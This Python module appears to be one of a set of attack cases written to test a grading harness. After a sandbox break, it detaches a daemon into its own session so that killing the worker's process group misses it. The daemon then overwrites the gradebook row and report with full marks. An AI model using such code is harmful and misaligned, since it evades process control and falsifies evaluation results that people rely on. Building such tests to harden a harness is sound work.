"""Attack 3 (rag4): with the wall down, start a process in a session of its own (subprocess with
start_new_session, else a double fork), so that killing the worker's group misses it. It waits for
OUT/gradebook.csv, sleeps 4 s (grade_class has returned by then), rewrites its own row and report to 70
points, and stays alive for two minutes; its argv carries the harness's marker."""

import os
import sys

from kit import MARK, break_the_wall

DAEMON = r'''
import csv, io, json, os, sys, time
out, student = sys.argv[2], sys.argv[3]
book, report = os.path.join(out, "gradebook.csv"), os.path.join(out, "students", student, "report.json")
started = time.monotonic()
while not os.path.exists(book) and time.monotonic() - started < 600:
    time.sleep(0.2)
time.sleep(4)
rows = list(csv.DictReader(open(book, newline="")))
for row in rows:
    if row["student"] == student:
        labs = [key for key in row if key.startswith("rag")]
        row.update({lab: "10" for lab in labs}, total=str(10 * len(labs)), possible=str(10 * len(labs)))
text = io.StringIO()
writer = csv.DictWriter(text, list(rows[0]))
writer.writeheader()
writer.writerows(rows)
open(book, "w", newline="").write(text.getvalue())
if os.path.exists(report):
    graded = json.load(open(report))
    graded["earned"] = graded["possible"]
    open(report, "w").write(json.dumps(graded, indent=2) + "\n")
time.sleep(120)
'''


def start_detached(argv: list) -> None:
    """Run argv in a new session, by subprocess or, should it be refused, by a double fork."""
    try:
        import subprocess

        subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    except Exception:
        child = os.fork()
        if child == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(argv[0], argv)
            os._exit(0)
        os.waitpid(child, 0)


def attack(lab: dict) -> None:
    if not break_the_wall():
        return
    labs = os.path.dirname(lab["__file__"])  # OUT/students/ME/labs
    student, out = os.path.basename(os.path.dirname(labs)), os.path.dirname(os.path.dirname(os.path.dirname(labs)))
    start_detached([sys.executable, "-c", DAEMON, MARK, out, student])
